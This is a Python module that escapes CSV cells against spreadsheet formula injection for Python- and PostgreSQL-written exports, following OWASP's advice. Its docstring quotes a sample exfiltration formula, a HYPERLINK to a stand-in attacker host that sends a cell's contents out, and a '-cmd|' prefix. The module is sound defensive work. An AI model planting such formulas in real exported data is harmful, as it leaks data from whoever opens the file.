"""Cells of every CSV file we write, safe to open in a spreadsheet.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and
one that begins with a tab or a carriage return after trimming it), so a source
named `=HYPERLINK("https://evil.example/?"&A1, "open")` in the auditor's event log,
or a value in a consumer's portability CSV, could send data away or run a command
on the reader's machine ("CSV injection", OWASP). As OWASP describes, such a cell
is written with a single quote before it: the spreadsheet shows it as text, and
a reader sees the value with one quote more.

One exception, chosen for the consumer's data and the reports' counts: a cell that
is wholly a negative number (`-12`, `-0.5`, `-1e3`) stays as it is. A number is no
formula in any spreadsheet, and a portable copy must keep numbers numbers. Any
other cell starting with `-` (`-2+3`, `-cmd|...`) gets its quote.

The JSON files beside the CSV files are never changed: they hold the values
exactly. `cell` serves the CSV written by Python; `sql_cell` the CSV PostgreSQL
writes itself (COPY ... TO STDOUT (FORMAT csv)), with the same rule.
"""

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEGATIVE_NUMBER = re.compile(r"-(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")
# The same two patterns for PostgreSQL's regular expressions (no % in them: the
# queries they go into have parameters bound in the %(name)s style).
SQL_TRIGGER = r"^[-=+@\t\r]"
SQL_NEGATIVE_NUMBER = r"^-([0-9]+\.?[0-9]*|\.[0-9]+)([eE][-+]?[0-9]+)?$"


def cell(value) -> str:
    """The text of one CSV cell (None is empty, as the csv module writes it)."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text.startswith(TRIGGERS) and not _NEGATIVE_NUMBER.fullmatch(text):
        return "'" + text
    return text


def row(values: dict) -> dict:
    """Every cell of a row for csv.DictWriter."""
    return {key: cell(value) for key, value in values.items()}


def sql_cell(expression: str) -> str:
    """PostgreSQL: the CSV text of `expression` with the rule of `cell` (NULL stays
    NULL, written as an empty cell). The literals are standard strings: the
    backslashes of \\t and \\r reach the regular expression, which reads them as a
    tab and a carriage return."""
    text = f"({expression})::text"
    return (f"CASE WHEN {text} ~ '{SQL_TRIGGER}' AND {text} !~ '{SQL_NEGATIVE_NUMBER}' "
            f"THEN '''' || {text} ELSE {text} END")
